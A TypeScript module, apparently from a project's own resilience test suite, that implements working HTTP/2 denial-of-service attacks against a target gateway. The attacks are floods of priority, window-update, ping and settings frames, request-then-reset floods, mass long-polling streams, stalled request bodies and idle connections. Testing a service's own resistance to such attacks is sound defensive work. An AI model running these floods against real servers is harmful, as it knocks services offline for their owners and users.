// Attacks over HTTP/2, below Node's own client.
import type { TLSSocket } from 'node:tls'
import { FLAG, frame, rawHttp2, requestHeaders, TYPE, uint32 } from '../../../gateway/testing/http2-frames.ts'
import { type Attack, type Finding, sized, type Target, unlessOpen } from '../attack.ts'
import { rungwayPath } from '../dialect.ts'
import { closing, many, megabytes, pause, pump, repeated, untilOver } from '../tools.ts'

const CONNECTIONS = 5
const COMPLETE = FLAG.endHeaders | FLAG.endStream
const CANCEL = 8

const request = (stream: number, flags: number, method: string, path: string): Buffer =>
  frame(
    TYPE.headers,
    flags,
    stream,
    requestHeaders(method, path, method === 'POST' ? { 'content-type': 'text/plain' } : {}),
  )

const open = (target: Target): Promise<TLSSocket | null> =>
  rawHttp2(target.tlsPort, target.from).then(
    (socket) => closing(socket).resume(),
    () => null,
  )

/** The same over and over, on connections that are opened anew when they are cut. */
async function flood(target: Target, block: (round: number) => Buffer): Promise<Finding> {
  let bytes = 0
  let connections = 0
  target.begin()
  await many(CONNECTIONS, target, async () => {
    while (!target.signal.aborted) {
      const socket = await open(target)
      if (socket === null) {
        await pause(10)
        continue
      }
      connections += 1
      bytes += await pump(socket, target, block)
      socket.destroy()
    }
    return null
  })
  return { did: `${connections} connections, ${megabytes(bytes)} up` }
}

/** As many streams as there may be, each of them a poll of a session of its own. */
async function streams(target: Target): Promise<Finding> {
  const each = sized(target, 1_000, 10_000)
  let sent = 0
  let cut = 0
  await many(CONNECTIONS, target, async (c) => {
    const socket = await open(target)
    if (socket === null) return null
    socket.on('close', () => {
      cut += 1
    })
    for (let from = 0; from < each && !socket.destroyed && !target.signal.aborted; from += 100) {
      const path = (i: number): string => rungwayPath('long-polling', c * each + from + i)
      socket.write(repeated(100, (i) => request(2 * (from + i) + 1, COMPLETE, 'GET', path(i))))
      sent += 100
      await pause(1)
    }
    return null
  })
  await untilOver(target)
  return { did: `${sent} streams sent, ${cut} of ${CONNECTIONS} connections cut` }
}

/** Bodies that fill the window of each stream, and stop. */
async function bodies(target: Target): Promise<Finding> {
  const parts = [frame(TYPE.data, 0, 0, new Uint8Array(16_000))]
  const each = 100
  const connections = await many(sized(target, 10, 50), target, async (c) => {
    const socket = await open(target)
    if (socket === null) return null
    for (let i = 0; i < each && !socket.destroyed; i++) {
      const stream = 2 * i + 1
      socket.write(request(stream, FLAG.endHeaders, 'POST', rungwayPath('up', c * each + i)))
      for (const part of parts) {
        part.writeUInt32BE(stream, 5)
        socket.write(Buffer.concat([part, part, part]))
      }
    }
    return socket
  })
  await untilOver(target)
  return { did: `${connections.length} connections of ${each} bodies` }
}

/** Connections that ask for nothing. */
async function idle(target: Target): Promise<Finding> {
  const connections = await many(sized(target, 100, 1_000), target, () => open(target))
  await untilOver(target)
  const left = connections.filter(({ destroyed }) => !destroyed).length
  return unlessOpen(target, `${connections.length} connections, ${left} open at the end`, left, 0)
}

const FLOODS: Readonly<Record<string, (round: number) => Buffer>> = {
  'HTTP/2: priorities': () =>
    repeated(1_000, (i) => frame(TYPE.priority, 0, 2 * i + 1, Buffer.concat([uint32(0), Buffer.of(i % 256)]))),
  'HTTP/2: windows of a byte': () => repeated(1_000, () => frame(TYPE.windowUpdate, 0, 0, uint32(1))),
  'HTTP/2: pings and settings': () =>
    repeated(500, () => Buffer.concat([frame(TYPE.ping, 0, 0, Buffer.alloc(8)), frame(TYPE.settings, 0, 0)])),
  'HTTP/2: requests taken back': (round) =>
    repeated(100, (i) => {
      const stream = 2 * (round * 100 + i) + 1
      const path = rungwayPath('long-polling', stream)
      return Buffer.concat([request(stream, COMPLETE, 'GET', path), frame(TYPE.reset, 0, stream, uint32(CANCEL))])
    }),
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  { name: 'HTTP/2: streams over 5 connections', host: 'alone', hasPeer: false, run: streams },
  { name: 'HTTP/2: bodies that stop', host: 'alone', hasPeer: false, run: bodies },
  { name: 'HTTP/2: idle connections', host: 'alone', hasPeer: false, run: idle },
  ...Object.entries(FLOODS).map(
    ([name, block]): Attack => ({ name, host: 'alone', hasPeer: false, run: (target) => flood(target, block) }),
  ),
]
